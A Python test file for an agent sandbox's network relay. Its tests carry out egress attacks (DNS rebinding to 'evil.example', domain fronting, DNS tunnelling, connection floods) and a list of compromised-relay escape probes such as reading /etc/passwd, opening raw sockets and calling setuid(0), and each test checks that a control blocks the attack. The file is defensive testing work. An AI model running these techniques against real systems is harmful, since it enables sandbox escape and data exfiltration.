"""Ways around the rules of a network, at the relay. Each test names the control that stops it, and
with that control switched off the attack succeeds."""

import contextlib
import errno
import os
import select
import signal
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from tests.captured import Captured, Names, Served, echo, eventually, relayed
from tests.unit.egress.relay.test_hello import client_hello

from agentd import Sandbox
from agentd.egress import deaths
from agentd.egress import keeper as keepers
from agentd.egress import process as processes
from agentd.egress.admitted import Admitted
from agentd.egress.compile import compile_table
from agentd.egress.keeper import RelayKeeper
from agentd.linux import landlock
from agentd.model.egress import EgressBounds, StaticHost
from agentd.model.errors import SandboxError
from agentd.sandbox.backends import identity
from agentd.testing.patience import SLOWER

RESET, REFUSED = errno.ECONNRESET, errno.ECONNREFUSED
RELAY = processes.MODULE
# What a relay is started with where a control is off: its main, after some lines more.
WITHOUT = {
    "addresses": "from agentd.egress.relay.targets import Finder; "
    "Finder.hindrance = lambda self, address: ''",
    "names": "from agentd.egress.relay import hello; "
    "hello.server_name = hello.host = lambda data: hello.First(None); "
    "from agentd.egress.relay import connection; connection.TLS_PORT = 0",
    "bounds": "from agentd.egress.relay import relay, synthetic; from agentd.egress.relay.tenant "
    "import Tenant; relay.MAX_CONNECTIONS = relay.MAX_DIALLING = synthetic.MAX_WILD = 9999; "
    "relay._SHARE = 1; "
    "Tenant.may_ask = lambda self, now: True",
    "rate": "from agentd.egress.relay import tenant; tenant.NAMES_A_SECOND = 0.0",
    "few": "from agentd.egress.relay import synthetic; synthetic.MAX_WILD = 20",
}


@contextlib.contextmanager
def relay(without: str = "", **answers: Any) -> Iterator[tuple[RelayKeeper, Names]]:
    """A relay, with a control switched off where one is named."""
    if without:
        processes.MODULE = f"{RELAY} import main; {WITHOUT[without]}; from {RELAY}"
    try:
        with relayed(**answers) as (keeper, names):
            yield keeper, names
    finally:
        processes.MODULE = RELAY


@contextlib.contextmanager
def sandbox(keeper: RelayKeeper, *rules: str, **hosts: int) -> Iterator[tuple[Captured, Admitted]]:
    captured = Captured()
    static = [StaticHost(n.replace("_", "."), "127.0.0.1", port) for n, port in hosts.items()]
    try:
        table = compile_table(rules, EgressBounds(hosts=tuple(static)))
        admitted = keeper.admit(captured.sockets, table)
        try:
            yield captured, admitted
        finally:
            admitted.close()
    finally:
        captured.close()


@contextlib.contextmanager
def server(serve: Any = echo) -> Iterator[Served]:
    served = Served(serve)
    try:
        yield served
    finally:
        served.close()


class Rebinding:
    """A name that is somebody else's when it is published, and this host's when it is dialled."""

    def __init__(self) -> None:
        self.asked = 0

    def __call__(self) -> list[str]:
        self.asked += 1
        return ["203.0.113.9" if self.asked == 1 else "127.0.0.1"]


@pytest.mark.parametrize("without", ["", "addresses"])
def test_a_name_that_is_bound_anew_reaches_nothing_of_the_hosts(without: str) -> None:
    """By: every address is looked at when it is dialled, and that very one is dialled."""
    with (
        server() as host,
        relay(without, evil_example=Rebinding()) as (keeper, names),
        sandbox(keeper, f"evil.example:{host.port}") as (inside, admitted),
    ):
        names.ttl = 1
        code, address = inside.ask("resolve('evil.example')")
        assert (code, address[:3]) == (0, "198")
        until = time.monotonic() + 30 * SLOWER
        while len(names.asked) < 2 and time.monotonic() < until:
            got = inside.ask("[resolve('evil.example')[0], __import__('time').sleep(0.1)][0]")
            assert got == 0
        told = inside.ask(f"talk('{address}', {host.port}, b'secrets')")
        if without:
            assert told == "secrets"
        else:
            assert told == RESET
            assert any("loopback" in row["reason"] for row in admitted.connections().rows)


@pytest.mark.parametrize("without", ["", "addresses"])
def test_a_name_of_this_very_host_reaches_nothing_of_it(without: str) -> None:
    """By: the kernel is asked whether an address is the host's own."""
    own = _own_address()
    listener = socket.create_server((own, 0))
    port = listener.getsockname()[1]
    with (
        listener,
        relay(without, me_example=[own]) as (keeper, _),
        sandbox(keeper, f"me.example:{port}") as (inside, admitted),
    ):
        code, address = inside.ask("resolve('me.example')")
        if without:
            inside.ask(f"keep('{address}', {port})")
            listener.settimeout(30 * SLOWER)
            listener.accept()[0].close()
        else:
            assert (code, address) == (0, "")
            (row,) = _rows(admitted, 1)
            assert row["reason"] == f"{own} is this host itself"


def _own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("203.0.113.1", 9))
        except OSError:
            pytest.skip("this machine has no address but the loopback's")
        return str(sock.getsockname()[0])


@pytest.mark.parametrize("without", ["", "names"])
@pytest.mark.parametrize("port", [443, 80])
def test_a_host_behind_an_allowed_one_is_not_reached_by_its_name(port: int, without: str) -> None:
    """Domain fronting. By: the server name, and the first request's Host, must be the name."""
    heard: list[bytes] = []

    def front(sock: socket.socket) -> None:
        heard.append(sock.recv(65536))
        sock.sendall(b"hello")
        while sock.recv(65536):  # what comes in pieces, or it were reset
            pass

    hello = client_hello("behind.internal")
    request = b"GET / HTTP/1.1\r\nHost: behind.internal\r\n\r\n"
    absent = client_hello(None) if port == 443 else b"GET / HTTP/1.1\r\n\r\n"
    said = hello if port == 443 else request
    pieces = [said[at : at + 40] for at in range(0, len(said), 40)]
    with (
        server(front) as host,
        relay(without) as (keeper, _),
        sandbox(keeper, "cdn.internal", cdn_internal=host.port) as (inside, _),
    ):
        for attack in (said, pieces, absent):
            told = inside.ask(f"talk('cdn.internal', {port}, {attack!r})")
            assert told == ("hello" if without else RESET)
        if not without:
            assert heard in ([], [b""] * len(heard))  # not one byte of it


@pytest.mark.parametrize("without", ["", "bounds"])
def test_a_wildcard_carries_only_so_many_names(without: str) -> None:
    """DNS tunnelling. By: names a second, and different names, that one sandbox may ask for."""
    with (
        # Without those that come anew meanwhile: a busy machine takes its time.
        relay(without or "rate", evil_example=["203.0.113.9"]) as (keeper, names),
        sandbox(keeper, "*.evil.example") as (inside, _),
    ):
        codes = inside.ask("[resolve(f'data{at}.evil.example')[0] for at in range(400)]")
        leaked = len({name for name, _ in names.asked})
        assert leaked == (400 if without else 200)
        assert codes.count(2) == 400 - leaked  # SERVFAIL
        long = ".".join(["d" * 60] * 3) + ".evil.example"
        assert inside.ask(f"resolve({long!r})") == [3, ""]
        assert inside.ask("[resolve(f'data{at}.other.example')[0] for at in range(50)]") == [3] * 50
        assert not any("other" in name for name, _ in names.asked)


def test_names_that_do_not_exist_tell_no_more_than_those_that_do() -> None:
    with (
        relay("few", good_example=["203.0.113.9"]) as (keeper, names),
        sandbox(keeper, "*.evil.example", "good.example") as (inside, admitted),
    ):
        codes = inside.ask("[resolve(f'data{at}.evil.example')[0] for at in range(60)]")
        assert codes == [3] * 20 + [2] * 40  # NXDOMAIN, SERVFAIL
        assert len({name for name, _ in names.asked}) == 20
        assert "too many different names" in _rows(admitted, 1)[-1]["reason"]
        assert inside.ask("resolve('data1.evil.example')[0]") == 3
        assert inside.ask("resolve('good.example')[0]") == 0


@pytest.mark.parametrize("without", ["", "bounds"])
def test_a_flood_of_connections_is_bounded_and_starves_nobody(without: str) -> None:
    """By: the connections that one sandbox may have."""
    count = 1200 if without else 10_000
    with (
        server() as host,
        relay(without) as (keeper, _),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (flood, admitted),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (other, _),
    ):
        flood.ask("__import__('resource').setrlimit(7, (12000, 12000))")
        address = flood.ask("resolve('db.internal')")[1]
        flood.begin(f"len([attempt(keep, '{address}', 1) for _ in range({count})])")
        assert other.ask("talk('db.internal', 1, b'mine')") == "mine"
        assert flood.answer() == count
        alive = "sum(s.send(b'x') == 1 and s.recv(1) == b'x' for s in kept)"
        if without:
            assert flood.ask(alive) == 1200
            return
        assert other.ask("talk('db.internal', 1, b'mine')") == "mine"
        eventually(lambda: admitted.connections().totals["denied"] >= count - 512)


FEW_FILES = (
    "import resource; from agentd.linux import process; "
    "process.raise_file_limit = lambda: resource.setrlimit(7, ({0}, {0}))"
)


def test_a_relay_without_descriptors_goes_on_once_there_are_some() -> None:
    """By: it stops to accept for a moment; without its bounds, which keep it from that."""
    off = "from agentd.egress.relay.relay import Relay; Relay._crowded = lambda self, tenant: ''"
    processes.MODULE = f"{RELAY} import main; {FEW_FILES.format(64)}; {off}; from {RELAY}"
    try:
        with (
            server() as host,
            relayed() as (keeper, _),
            sandbox(keeper, "db.internal:1", db_internal=host.port) as (inside, _),
        ):
            address = inside.ask("resolve('db.internal')")[1]
            # One that is accepted with the last descriptor is reset, as there is none to dial with.
            assert len(inside.ask(f"[attempt(keep, '{address}', 1) for _ in range(80)]")) == 80
            assert inside.ask("[sock.close() for sock in kept][-1]") is None
            # As soon as the relay has seen that they are closed.
            eventually(lambda: inside.ask(f"talk('{address}', 1, b'x')") == "x")
            assert keeper.faults == []
    finally:
        processes.MODULE = RELAY


def test_a_relay_with_few_descriptors_refuses_before_it_has_none() -> None:
    processes.MODULE = f"{RELAY} import main; {FEW_FILES.format(660)}; from {RELAY}"
    try:
        with (
            server() as host,
            relayed() as (keeper, _),
            sandbox(keeper, "db.internal:1", db_internal=host.port) as (inside, admitted),
        ):
            address = inside.ask("resolve('db.internal')")[1]
            inside.ask(f"len([attempt(keep, '{address}', 1) for _ in range(40)])")
            eventually(lambda: admitted.connections().totals["denied"])
            reasons = [row["reason"] for row in admitted.connections().rows]
            assert any("connections of the sandbox are open" in reason for reason in reasons)
            assert inside.ask("kept[0].send(b'x') and kept[0].recv(1)") == "x"
            assert keeper.faults == []
    finally:
        processes.MODULE = RELAY


def test_slow_readers_hold_up_nobody_and_fill_no_memory() -> None:
    """By: bytes stay in a pipe of the connection, and in the sender's window."""

    def pour(sock: socket.socket) -> None:
        for _ in range(16):
            sock.sendall(bytes(1 << 20))

    with (
        server(pour) as fast,
        server() as host,
        relay() as (keeper, _),
        sandbox(keeper, "fast.internal:1", fast_internal=fast.port) as (slow, _),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (other, _),
    ):
        before = _memory(keeper.pid)
        slow.ask("resolve('fast.internal')")
        assert slow.ask("[keep('fast.internal', 1) for _ in range(10)][-1]") == 9
        for _ in range(20):
            assert other.ask("talk('db.internal', 1, b'mine')") == "mine"
        assert _memory(keeper.pid) - before < 8 << 20
        slow.process.kill()


def test_a_connection_to_an_operators_host_ends_with_the_rule_that_named_it() -> None:
    """A wildcard does not reach it, so what is open must not go on by one."""
    with (
        server() as host,
        relay() as (keeper, _),
        sandbox(keeper, "db.corp.internal:1", db_corp_internal=host.port) as (inside, admitted),
    ):
        assert inside.ask("keep('db.corp.internal', 1)") == 0
        assert inside.ask("(kept[0].send(b'a'), kept[0].recv(1))[1]") == "a"
        bounds = EgressBounds(hosts=(StaticHost("db.corp.internal", "127.0.0.1", host.port),))
        admitted.set(compile_table(["*.corp.internal:1"], bounds))
        assert inside.ask("kept[0].recv(1)") == RESET


def test_an_address_of_another_sandboxs_name_is_nobodys_here() -> None:
    """By: a synthetic address names a host within the sandbox that asked for the name."""
    with (
        server() as host,
        relay() as (keeper, _),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (one, _),
        sandbox(keeper, "api.internal:1", api_internal=host.port) as (other, _),
    ):
        address = one.ask("resolve('db.internal')")[1]
        assert one.ask(f"talk('{address}', 1, b'x')") == "x"
        assert other.ask(f"talk('{address}', 1, b'x')") == RESET


def test_a_relay_that_is_killed_at_any_moment_opens_nothing() -> None:
    """By: nothing but the relay dials, and what it had open ends with it."""
    with (
        server() as host,
        relay() as (keeper, _),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (inside, _),
    ):
        address = inside.ask("resolve('db.internal')")[1]
        for pause in (0.0, 0.02, 0.2):
            eventually(lambda: keeper.pid)
            allowed, refused = (f"talk, '{address}', {port}, b'x'" for port in (1, 2))
            inside.begin(f"[(attempt({allowed}), attempt({refused})) for _ in range(40)]")
            threading.Event().wait(pause)
            os.kill(keeper.pid, signal.SIGKILL)
            for got, not_got in inside.answer():
                # One that was accepted, and not refused yet, ends without a word.
                assert not_got in ("", RESET, REFUSED)
                assert got in ("x", "", RESET, REFUSED)
        assert inside.ask(f"talk('{address}', 1, b'x')") == "x"


ATTACKS = """
import fcntl, mmap, os, socket, json
from agentd.egress.relay import relay
def tried(self):
    found = {}
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name, attempt in {
        "open": lambda: open("/etc/passwd"),
        "list": lambda: os.listdir("/"),
        "stat": lambda: os.stat("/etc"),
        "exec": lambda: os.execv("/bin/true", ["true"]),
        "fork": lambda: os.fork(),
        "unix": lambda: socket.socket(socket.AF_UNIX),
        "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
        "packets": lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET),
        "filter": lambda: own.setsockopt(socket.SOL_SOCKET, 26, bytes(16)),
        "module": lambda: own.setsockopt(270, 1, 1),
        "code": lambda: mmap.mmap(-1, 4096, prot=7),
        "owner": lambda: fcntl.fcntl(own, fcntl.F_SETOWN, 0),
        "input": lambda: fcntl.ioctl(own, 0x5412, b"x"),
        "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
        "listen": lambda: socket.create_server(("127.0.0.1", 0)),
        "kill": lambda: os.kill(os.getppid(), 0),
        "root": lambda: os.setuid(0),
    }.items():
        try:
            attempt()
            found[name] = 0
        except OSError as error:
            found[name] = error.errno
    self._control.send(json.dumps({"rows": [{"fault": json.dumps(found)}], "lost": 0}).encode())
    self.loop.watch(self._control.fileno(), 1, self._hear)
    self.loop.run()
relay.Relay.serve = tried
"""


def test_a_relay_that_was_taken_over_has_nothing() -> None:
    """By: its seccomp filter, which names what it may call; Landlock; no capability; no root."""
    try:
        processes.MODULE = f"{RELAY} import main; exec({ATTACKS!r}); from {RELAY}"
        with relayed() as (keeper, _):
            with sandbox(keeper, "db.internal:1"):
                eventually(lambda: keeper.faults)
            found = __import__("json").loads(keeper.faults[0])
            status = _status(keeper.pid)
            dumpable = os.stat(f"/proc/{keeper.pid}/status").st_uid != 0
    finally:
        processes.MODULE = RELAY
    assert set(found.values()) <= {errno.EPERM, errno.EACCES}, found
    assert not dumpable  # else a process of its user reads its memory
    assert status["NoNewPrivs"] == "1"
    assert status["Seccomp"] == "2"
    assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0
    assert status["Uid"].split()[0] != "0"


def test_a_relay_has_nothing_that_its_host_forgot_to_mark() -> None:
    """By: it closes all but the socket to its host before it hears anything."""
    ours, forgotten = os.pipe()
    os.set_inheritable(forgotten, True)
    with relayed() as (keeper, _), sandbox(keeper, "db.internal:1"):
        os.close(forgotten)
        ends = select.poll()
        ends.register(ours, select.POLLHUP)
        found = ends.poll(0)
    os.close(ours)
    assert found  # nobody else has it


NO_FILTER = (
    "from agentd.egress.relay import confine; confine.install = lambda *args: None; "
    "import os; os.fork = lambda: 0"
)


def test_a_relay_whose_filter_has_a_hole_has_no_files() -> None:
    """By: Landlock, alone: its filter is switched off here."""
    if not landlock.abi_version():
        pytest.skip("this kernel has no Landlock")
    more = f"{NO_FILTER}; exec({ATTACKS!r})"
    try:
        processes.MODULE = f"{RELAY} import main; {more}; from {RELAY}"
        with relayed() as (keeper, _), sandbox(keeper, "db.internal:1"):
            eventually(lambda: keeper.faults)
        found = __import__("json").loads(keeper.faults[0])
    finally:
        processes.MODULE = RELAY
    assert found["stat"] == 0  # the filter is off
    assert {found[name] for name in ("open", "list", "exec")} == {errno.EACCES}


# Says something else in place of serving, and does not end by itself.
LIES = """
import time
from agentd.egress.relay import relay
def lie(self):
    while b'"admit"' not in self._control.recv(1 << 18):
        pass
    self._control.send({!r})
    while True:
        time.sleep(60)
relay.Relay.serve = lie
"""


@pytest.mark.parametrize(
    "said",
    [
        b"nonsense",
        b"[]",
        b"{}",
        b'{"rows": [{"sandbox": {}}], "lost": 0}',
        b'{"rows": [{"sandbox": 1, "n": [], "port": 1}], "lost": 0}',
        b'{"rows": 1}',
    ],
)
def test_what_a_relay_that_was_taken_over_says_harms_nobody(
    said: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By: what it says is looked at; it is ended, and where the next are no better, so is the
    network."""
    monkeypatch.setattr(deaths, "WITHIN", 3600.0)  # a busy machine starts one in its own time
    try:
        processes.MODULE = f"{RELAY} import main; exec({LIES.format(said)!r}); from {RELAY}"
        with relayed() as (keeper, _):
            try:
                with sandbox(keeper, "db.internal:1") as (inside, admitted):
                    eventually(lambda: inside.ask("attempt(talk, '8.8.8.8', 1)") == REFUSED)
                    (row,) = admitted.connections().rows  # the host's own word, and none of its
                    assert row["reason"] == "its network was closed: it died 5 times within 3600 s"
            except SandboxError as error:  # the last of them had lied before
                assert "there is no network relay" in str(error)
            assert keeper.faults
    finally:
        processes.MODULE = RELAY


def test_a_relay_that_hangs_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    """By: it is asked now and then whether it lives."""
    monkeypatch.setattr(keepers, "_LOOK_SECONDS", 0.1)
    with (
        server() as host,
        relay() as (keeper, _),
        sandbox(keeper, "db.internal:1", db_internal=host.port) as (inside, _),
    ):
        assert inside.ask("talk('db.internal', 1, b'x')") == "x"
        first = keeper.pid
        os.kill(first, signal.SIGSTOP)
        # No sooner, nor later: a busy machine's, which lives, may not answer within it either.
        monkeypatch.setattr(keepers, "_HANG_SECONDS", 0.5)
        inside.begin("attempt(talk, 'db.internal', 1, b'again')")
        eventually(lambda: keeper.pid not in (0, first))
        monkeypatch.setattr(keepers, "_HANG_SECONDS", 60.0)
        assert inside.answer() in ("again", RESET, REFUSED)
        assert inside.ask("talk('db.internal', 1, b'x')") == "x"


@pytest.mark.root
def test_the_relay_is_a_user_that_nobody_else_is() -> None:
    """By: an id of the block that it alone has, which is given back when it has ended."""
    with Sandbox.create(net=["pypi"], backend="linux", embedded=True):
        users = _status(keepers.shared().pid)["Uid"].split()
        assert len(set(users)) == 1
        assert int(users[0]) in identity.configured().usable()
        assert os.path.exists(f"{identity.folder()}/{users[0]}")
    lock = f"{identity.folder()}/{users[0]}"
    eventually(lambda: keepers.shared().rest() or not os.path.exists(lock))


def _status(pid: int) -> dict[str, str]:
    with open(f"/proc/{pid}/status", encoding="ascii") as file:
        pairs = (line.partition(":") for line in file)
        return {name: value.strip() for name, _, value in pairs}


def _memory(pid: int) -> int:
    return int(_status(pid)["VmRSS"].split()[0]) << 10


def _rows(admitted: Admitted, count: int) -> list[dict[str, Any]]:
    eventually(lambda: len(admitted.connections().rows) >= count)
    return admitted.connections().rows
